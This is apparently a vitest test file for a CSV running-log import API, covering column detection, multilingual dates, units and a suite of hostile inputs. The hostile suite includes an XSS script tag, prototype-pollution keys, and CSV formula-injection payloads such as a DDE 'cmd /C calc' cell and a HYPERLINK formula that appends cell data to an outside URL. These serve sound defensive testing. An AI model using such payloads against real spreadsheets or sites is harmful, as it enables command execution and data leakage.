// Logs as they are exported and typed, and as an attacker would write them.

import { readFileSync } from 'node:fs';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { readDates, readTable, tellError, type ErrorCode } from '../../core/index.ts';
import { serve, type Server } from '../api/workerd.ts';
import { exportVectors } from '../vectors.ts';

let server: Server;
beforeAll(async () => void (server = await serve()));
afterAll(() => server.stop());

interface Answer {
  readonly code?: ErrorCode;
  readonly source: string | null;
  readonly columns: readonly { role: string; header: string; unit?: string }[];
  readonly rows: readonly {
    index: number;
    row: number;
    run?: { date: string; distanceKm: number; type: string; planned?: true; athlete?: string };
    error?: { code: ErrorCode; detail: string };
  }[];
  readonly athletes: readonly { athlete: string | null }[];
  readonly toConfirm: readonly number[];
}

async function post(csv: string | Uint8Array<ArrayBuffer>, query = ''): Promise<{ status: number; text: string; body: Answer }> {
  const response = await server.fetch(`/v1/log${query}`, { method: 'POST', headers: { 'Content-Type': 'text/csv' }, body: csv });
  const text = await response.text();
  return { status: response.status, text, body: (query.includes('csv') ? {} : JSON.parse(text)) as Answer };
}

describe.each(exportVectors)('$name', ({ file, unit, refused, source, columns, unit_understood, rows, elevations, rpes, athletes, confirm }) => {
  const bytes = readFileSync(`test/fixtures/exports/${file}`);
  const query = unit === undefined ? '' : `?unit=${unit}`;

  if (refused !== undefined) {
    test(`is refused as a whole: ${refused}`, async () => {
      const { status, body } = await post(bytes, query);
      expect([status, body.code]).toEqual([400, refused]);
    });
    return;
  }

  test('columns and unit', async () => {
    const { body } = await post(bytes, query);
    expect(body.source).toBe(source === 'hand-made' ? null : source);
    // times are understood too, and not used; a column of units speaks for itself
    expect(Object.fromEntries(body.columns.filter(({ role }) => role !== 'duration' && role !== 'unit').map(({ role, header }) => [role, header]))).toEqual(columns);
    expect(body.columns.find(({ role }) => role === 'distance')?.unit).toBe(unit_understood);
  });

  test('every row', async () => {
    const { body } = await post(bytes, query);
    expect(body.rows).toHaveLength(rows.length);
    for (const [index, wanted] of rows.entries()) {
      const { run, error } = body.rows[index]!;
      if ('unclear' in wanted) continue;
      if ('error' in wanted) expect(error?.code, `row ${index}`).toBe(wanted.error);
      else expect({ ...run, distanceKm: wanted.distanceKm ?? run?.distanceKm }, `row ${index}`).toMatchObject(wanted);
    }
    expect(body.toConfirm).toEqual(confirm);
    if (athletes) expect(body.athletes.map(({ athlete }) => athlete)).toEqual(athletes);
  });

  test('climb and effort', () => {
    const { data } = Papa.parse<string[]>(new TextDecoder().decode(bytes));
    const table = readTable(data, unit);
    if (!table.ok) throw new Error('refused');
    const number = (value: unknown): number | null => (value === '' ? null : Number(value));
    // feet to the tenth of a metre
    if (elevations)
      for (const [row, metres] of elevations.entries()) expect(Math.abs((number(table.value.rows[row]!.elevationGainM) ?? 0) - (metres ?? 0))).toBeLessThanOrEqual(0.051);
    if (rpes) expect(table.value.rows.map(({ rpe }) => number(rpe))).toEqual(rpes);
  });
});

/** Cells as one would paste them; the header first. */
const understood = (csv: string, unit?: string) => {
  const table = readTable(Papa.parse<string[]>(csv).data, unit);
  if (!table.ok) throw new Error(JSON.stringify(table.errors));
  return table.value;
};
const rolesOf = (csv: string) => Object.fromEntries(understood(csv).columns.map(({ role, header }) => [role, header]));

describe('what a column holds decides, not its name alone', () => {
  test('Einheit is a session in German, or a unit', () => {
    expect(rolesOf('Datum,Distanz,Einheit\n2026-01-01,10,Intervalle\n2026-01-02,8,locker\n')).toMatchObject({ type: 'Einheit' });
    expect(rolesOf('Datum,Distanz,Typ,Einheit\n2026-01-01,10,Intervalle,km\n2026-01-02,8,locker,mi\n')).toMatchObject({ type: 'Typ', unit: 'Einheit' });
  });
  test('a column of words is no effort and no plan', () => {
    expect(rolesOf('Date,Distance,Type,Effort,Planned\n2026-01-01,10,easy,hard,easy 10\n2026-01-02,8,easy,easy,long 20\n')).not.toHaveProperty('rpe');
    expect(rolesOf('Date,Distance,Type,Planned\n2026-01-01,10,easy,easy 10\n2026-01-02,8,easy,long 20\n')).not.toHaveProperty('planned');
  });
  test('Name is an athlete where names come again, else a title', () => {
    const rows = (...names: string[]) => `Date,Distance,Type,Name\n${names.map((name, day) => `2026-01-0${day + 1},10,easy,${name}`).join('\n')}\n`;
    expect(rolesOf(rows('Ana', 'Ben', 'Ana', 'Ben'))).toMatchObject({ athlete: 'Name' });
    expect(rolesOf(rows('Morning run', 'Lunch run', 'Club night', 'Long one'))).toMatchObject({ title: 'Name' });
  });
  test('Workout holds types, or titles', () => {
    expect(rolesOf('Date,Distance,Workout\n2026-01-01,10,intervals\n2026-01-02,8,tempo\n')).toMatchObject({ type: 'Workout' });
    expect(rolesOf('Date,Distance,Type,Workout\n2026-01-01,10,intervals,6 x 1000\n')).toMatchObject({ type: 'Type', title: 'Workout' });
  });
  test.each(['Kilometer', 'Kilómetros', 'Chilometri', 'Total km', 'km', 'Distance (mi)', 'dist_m', 'DistanceInMeters'])('%s is a distance', (header) => {
    expect(rolesOf(`Date,${header},Type\n2026-01-01,10,easy\n`)).toMatchObject({ distance: header });
  });
  test('the unit of the header wins over the one asked for', () => {
    expect(understood('Date,Distance (km),Type\n2026-01-01,10,easy\n', 'mi').rows[0]!.unit).toBe('km');
    expect(understood('Date,Distance,Type\n2026-01-01,10,easy\n', 'mi').rows[0]!.unit).toBe('mi');
  });
  test('thousands with a point in metres', () => {
    const { rows } = understood('Datum;Distanz (m);Höhenmeter;Typ\n01.02.2026;10.000;1.200;locker\n02.02.2026;5.000;850;locker\n');
    expect(rows.map(({ distance, elevationGainM }) => [distance, elevationGainM])).toEqual([
      [10_000, 1200],
      [5000, 850],
    ]);
  });
  test('an effort out of ten', () => expect(understood('Date,Distance,Type,RPE\n2026-01-01,10,race,7/10\n').rows[0]!.rpe).toBe(7));
  test('a plan without a result is planned', () => {
    const csv =
      'Title,WorkoutType,PlannedDuration,PlannedDistanceInMeters,WorkoutDay,DistanceInMeters,TimeTotalInHours\nGym,Strength,1,,2026-01-05,,\nRun,Run,1,10000,2026-01-06,,\nDone,Run,1,10000,2026-01-04,10100,0.9\nOff,Day Off,,,2026-01-07,,\n';
    expect(understood(csv).rows.map(({ planned }) => planned)).toEqual([true, true, '', '']);
  });
  test('no distance column: which half is missing, and what may have been meant', () => {
    const table = readTable([['Date', 'Distanse', 'Type']]);
    expect(table.ok ? '' : tellError(table.errors[0]).hint).toBe('Found a date (Date); no distance: is it Distanse? Add a first row such as: Date, Distance, Type, Athlete.');
  });
});

describe('sports of exports', () => {
  const typesIn = (...types: string[]) =>
    understood(`Activity ID,Activity Date,Activity Name,Activity Type,Distance\n${types.map((type, day) => `${day},2026-01-0${day + 1},x,${type},9.5`).join('\n')}\n`).rows.map(
      ({ type }) => type,
    );
  test('written together or apart, in any language', () => {
    expect(typesIn('EBikeRide', 'OpenWaterSwim', 'InlineSkate', 'BackcountrySki', 'Workout', 'Virtuelle Radfahrt')).toEqual(Array.from({ length: 6 }, () => 'cross-training'));
    expect(typesIn('Run', 'VirtualRun', 'Trail Run', 'Virtueller Lauf', 'Ultra Running', 'Trail', 'Carrera')).toEqual(Array.from({ length: 7 }, () => 'run'));
  });
});

describe('dates of a column', () => {
  test.each([
    [
      ['22/12/2025', '1/2/2026'],
      ['2025-12-22', '2026-02-01'],
    ], // 22 can be no month, so the day comes first
    [
      ['12/22/2025', '1/2/2026'],
      ['2025-12-22', '2026-01-02'],
    ],
    [
      ['1/2/2026', '3/4/2026'],
      ['1/2/2026', '3/4/2026'],
    ], // nothing decides
    [
      ['22/12/2025', '12/22/2025', '1/2/2026'],
      ['2025-12-22', '2025-12-22', '1/2/2026'],
    ], // both orders in one column
    [
      ['13/14/2025', '10/18/2025', '10/5/2025'],
      ['13/14/2025', '2025-10-18', '2025-10-05'],
    ], // a day that does not exist decides nothing
    [['5/5/2026'], ['2026-05-05']],
    [
      ['1.2.2026', '1.2.26'],
      ['2026-02-01', '2026-02-01'],
    ], // with points the day comes first
    [
      ['Monday 22/12/2025', 'Mo, 22.12.2025', 'Mon, 22 Dec 2025'],
      ['2025-12-22', '2025-12-22', '2025-12-22'],
    ],
    [['Oct 6, 2022, 11:19:20 PM', '6 oct. 2022 à 23:19:20', '6. Oktober 2022', '6 paź 2022', '6 de octubre de 2022'], Array.from({ length: 5 }, () => '2022-10-06')],
    [
      ['2022-03-11T08:47:36+16:00', '2022-12-12 14:38:08', '2022/12/12', '20221212'],
      ['2022-03-11', '2022-12-12', '2022-12-12', '20221212'],
    ],
    [
      ['30.02.2026', '31 Apr 2026', 'yesterday', '', 46000, null],
      ['30.02.2026', '31 Apr 2026', 'yesterday', '', 46000, null],
    ],
  ])('%j', (written, read) => {
    expect(readDates(written)).toEqual(read);
  });
});

// ---- hostile files --------------------------------------------------------------------------------------------------

const head = 'Date,Distance,Type,Athlete\n';
const good = '2026-03-01,10,easy,Ana\n2026-03-02,8,easy,Ana\n';
const bytesOf = (text: string): Uint8Array<ArrayBuffer> => new TextEncoder().encode(text);
const utf16 = (text: string): Uint8Array<ArrayBuffer> => new Uint8Array(Buffer.from(text, 'utf16le'));
const manyRows = (count: number): string =>
  Array.from(
    { length: count },
    (_, i) =>
      `${2000 + (i % 27)}-${String(1 + (Math.floor(i / 27) % 12)).padStart(2, '0')}-${String(1 + (Math.floor(i / 324) % 28)).padStart(2, '0')},${5 + (i % 11)},easy,A${i % 97}\n`,
  ).join('');

/** error: the file is refused · rows: how many are answered · bad: codes by index · null: any of it, as long as it is an answer */
interface Hostile {
  readonly name: string;
  readonly csv: string | Uint8Array<ArrayBuffer>;
  readonly error?: ErrorCode;
  readonly rows?: number;
  readonly bad?: Readonly<Record<number, ErrorCode>>;
}
const hostile: readonly Hostile[] = [
  { name: 'a quote never closed', csv: `${head}2026-03-01,10,easy,Ana\n2026-03-02,8,"easy,Ana\n2026-03-03,8,easy,Ana\n`, error: 'body-invalid' },
  { name: '2 MB behind an open quote', csv: `${head}2026-03-01,10,"easy${',Ana\n2026-03-02,8,easy'.repeat(100_000)}`, error: 'body-invalid' },
  { name: '4 MB of quotes', csv: head + '"'.repeat(4_000_001), error: 'body-invalid' },
  { name: '4 MB of quotes and commas', csv: head + '",'.repeat(2_000_000), error: 'body-invalid' },
  { name: 'a cell of 1 MB', csv: `${head}2026-03-01,10,easy,Ana\n2026-03-02,8,${'x'.repeat(1_000_000)},Ana\n2026-03-03,8,easy,Ana\n`, rows: 3, bad: { 1: 'type-unknown' } },
  { name: '1 MB of digits', csv: `${head}2026-03-01,${'9'.repeat(1_000_000)},easy,Ana\n2026-03-03,8,easy,Ana\n`, rows: 2, bad: { 0: 'distance-not-a-number' } },
  { name: 'an athlete of 1 MB', csv: `${head}2026-03-01,10,easy,${'A'.repeat(1_000_000)}\n2026-03-03,8,easy,Ana\n`, rows: 2, bad: { 0: 'parameter-invalid' } },
  { name: 'a sum of 1 MB', csv: `${head}2026-03-01,${'1+'.repeat(500_000)}1,easy,Ana\n2026-03-03,8,easy,Ana\n`, rows: 2, bad: { 0: 'distance-not-a-number' } },
  { name: 'a date of 1 MB', csv: `${head}${'1'.repeat(1_000_000)},8,easy,Ana\n2026-03-03,8,easy,Ana\n`, rows: 2, bad: { 0: 'date-invalid' } },
  { name: '1 MB of nines and a comma', csv: `${head}2026-03-01,"${'9'.repeat(1_000_000)},",easy,Ana\n2026-03-03,8,easy,Ana\n`, rows: 2, bad: { 0: 'distance-not-a-number' } },
  {
    name: '1 MB of nines and a point as the effort',
    csv: `Date,Distance,Type,RPE\n2026-03-01,8,race,${'9'.repeat(1_000_000)}.1.1\n2026-03-03,8,easy,3\n2026-03-04,8,easy,3\n`,
    rows: 3, // an effort that cannot be read is left out, and the run counts
  },
  { name: 'a header of 1 MB', csv: `Date,Distance,Type,${'x'.repeat(1_000_000)}\n2026-03-01,8,easy,1\n`, rows: 1 },
  { name: 'NUL bytes', csv: `${head}2026-03-01,1\u00000,easy,Ana\n`, error: 'body-invalid' },
  { name: 'NUL bytes alone', csv: '\u0000'.repeat(1000), error: 'body-invalid' },
  { name: 'bytes that are no text', csv: Uint8Array.from({ length: 10_240 }, (_, i) => i % 256), error: 'body-invalid' },
  { name: 'UTF-16', csv: utf16(`\ufeff${head}${good}`), error: 'body-invalid' },
  { name: 'UTF-16 without a mark', csv: utf16(head + good), error: 'body-invalid' },
  { name: 'Latin-1', csv: Uint8Array.from(Buffer.from('Datum;Distanz;Art;Athlet\n22.05.2020;8,5;locker;Jürgen\n', 'latin1')), error: 'body-invalid' },
  { name: 'a lone surrogate', csv: new Uint8Array([...bytesOf(head), ...bytesOf('2026-03-01,10,easy,'), 0xed, 0xa0, 0x80]), error: 'body-invalid' },
  { name: 'UTF-8 with a mark', csv: `\ufeff${head}${good}`, rows: 2 },
  { name: 'UTF-8 with a mark and quotes', csv: `\ufeff"Date","Distance","Type","Athlete"\n${good}`, rows: 2 },
  { name: 'CRLF', csv: (head + good).replaceAll('\n', '\r\n'), rows: 2 },
  { name: 'lone CR', csv: (head + good).replaceAll('\n', '\r'), rows: 2 },
  { name: 'mixed line ends', csv: 'Date,Distance,Type,Athlete\r\n2026-03-01,10,easy,Ana\n2026-03-02,8,easy,Ana\r\n2026-03-03,8,easy,Ana\n', rows: 3 },
  { name: 'tabs, as pasted from a sheet', csv: (head + good).replaceAll(',', '\t'), rows: 2 },
  { name: '10,000 columns', csv: `Date,Distance,Type,${'c,'.repeat(9997)}\n2026-03-01,8,easy${','.repeat(9997)}\n`, error: 'body-invalid' },
  { name: '10,000 columns of one name', csv: `${'Distance,'.repeat(10_000)}\n`, error: 'body-invalid' },
  { name: 'one row of 10,000 cells', csv: `${head}2026-03-01,10,easy,Ana${',x'.repeat(10_000)}\n`, error: 'body-invalid' },
  { name: 'names of the language as headers', csv: 'Date,Distance,Type,__proto__,constructor,toString\n2026-03-01,10,easy,a,b,c\n', rows: 1 },
  { name: 'names of the language as athletes', csv: `${head}2026-03-01,10,easy,<script>alert(1)</script>\n2026-03-02,8,easy,__proto__\n2026-03-03,8,easy,constructor\n`, rows: 3 },
  { name: 'short rows', csv: `${head}2026-03-01\n2026-03-02,8\n2026-03-03,8,easy\n,,,\n`, rows: 3, bad: { 0: 'distance-missing', 1: 'type-missing' } },
  { name: 'lines of blanks', csv: `${head}2026-03-01,10,easy,Ana\n  \n\t\n\u00a0\n2026-03-02,8,easy,Ana\n`, rows: 2 },
  { name: 'a row of 4 MB of separators', csv: `${head}${','.repeat(4_000_000)}`, error: 'body-invalid' },
  { name: 'nothing but commas', csv: head + ',,,\n'.repeat(1000), rows: 0 },
  { name: 'nothing but a header', csv: head, rows: 0 },
  { name: 'nothing', csv: '', error: 'body-invalid' },
  { name: 'nothing but a mark', csv: '\ufeff', error: 'body-invalid' },
  { name: 'nothing but line ends', csv: '\n'.repeat(100_000), error: 'body-invalid' },
  { name: 'no known header', csv: 'a,b,c\n1,2,3\n', error: 'body-invalid' },
  { name: 'more than 5 MB', csv: head + `2026-03-01,10,easy,${'Ana'.padEnd(240, '.')}\n`.repeat(19_600), error: 'body-too-large' },
  { name: '20,000 rows', csv: head + manyRows(20_000), rows: 20_000 },
  { name: '20,001 rows', csv: head + manyRows(20_001), error: 'too-many-runs' },
  { name: '2.4 million rows', csv: head + '1\n'.repeat(2_400_000), error: 'too-many-runs' },
  { name: '4.9 million line ends', csv: head + '\n'.repeat(4_900_000), error: 'too-many-runs' },
  { name: '400 columns of one name, 400,000 rows', csv: `Date${',Distance'.repeat(400)}\n${'1\n'.repeat(400_000)}`, error: 'too-many-runs' },
  { name: '10,000 rows and as many blank lines', csv: head + manyRows(10_000) + '\n'.repeat(10_001), rows: 10_000 },
  { name: '20,000 races on one day', csv: head + Array.from({ length: 20_000 }, (_, i) => `2026-03-01,${(5 + i / 1000).toFixed(3)} km,race,Ana\n`).join(''), rows: 20_000 },
  {
    name: '20,000 races of one athlete',
    csv:
      head +
      Array.from(
        { length: 20_000 },
        (_, i) => `${2000 + Math.floor(i / 336)}-${String(1 + (Math.floor(i / 28) % 12)).padStart(2, '0')}-${String(1 + (i % 28)).padStart(2, '0')},100,race,Ana\n`,
      ).join(''),
    rows: 20_000,
  },
  { name: '20,000 athletes', csv: head + Array.from({ length: 20_000 }, (_, i) => `2026-03-01,10,race,Athlete ${i}\n`).join(''), rows: 20_000 },
];

describe('hostile files', () => {
  test.each(hostile)('$name', async ({ csv, error, rows, bad = {} }) => {
    const { status, text, body } = await post(csv);
    if (error !== undefined) {
      expect(body.code).toBe(error);
      expect(status).toBe(error === 'body-too-large' || error === 'too-many-runs' ? 413 : 400);
      expect(text.length).toBeLessThan(2000);
      return;
    }
    expect(status).toBe(200);
    expect(body.rows).toHaveLength(rows!);
    expect(Object.fromEntries(body.rows.flatMap(({ index, error: one }) => (one ? [[index, one.code]] : [])))).toEqual(bad);
    expect(text.length / Math.max(1, body.rows.length)).toBeLessThan(3000);
  });

  test('a formula is never echoed as one', async () => {
    const title =
      'Activity ID,Activity Date,Activity Name,Activity Type,Distance\n1,"Mar 1, 2026, 8:00:00 AM","=HYPERLINK(""http://example.org/?x=""&A1,""Race results"")",Run,10.00\n';
    expect((await post(title)).text).not.toContain('HYPERLINK');
    expect((await post(title)).body.rows[0]!.run!.type).toBe('race'); // the word is read all the same

    const athletes = `${head}2026-03-01,10,easy,"=HYPERLINK(""http://example.org"",""click"")"\n2026-03-02,8,easy,+1+cmd|'/C calc'!A0\n2026-03-03,8,easy,@SUM(1+1)\n2026-03-04,8,easy,-2+3\n=1+1,8,easy,Ana\n2026-03-05,=1+1,easy,Ana\n`;
    const { text } = await post(athletes, '?format=csv');
    const { data } = Papa.parse<string[]>(text.trim());
    expect(data).toHaveLength(7);
    for (const cell of data.flat()) expect(cell).not.toMatch(/^[=+@\t-]/);
  });

  test('what is wrong with the encoding or the columns is said', async () => {
    const latin1 = await post(Uint8Array.from(Buffer.from('Datum;Distanz\n22.05.2020;8,5 für', 'latin1')));
    expect(latin1.text).toContain('UTF-8');
    expect((await post('Date,Name\n2026-01-01,x\n')).text).toContain('Add a first row such as: Date, Distance, Type, Athlete.');
    expect((await post(head + manyRows(20_001))).text).toContain('at most 20000 rows');
  });
});
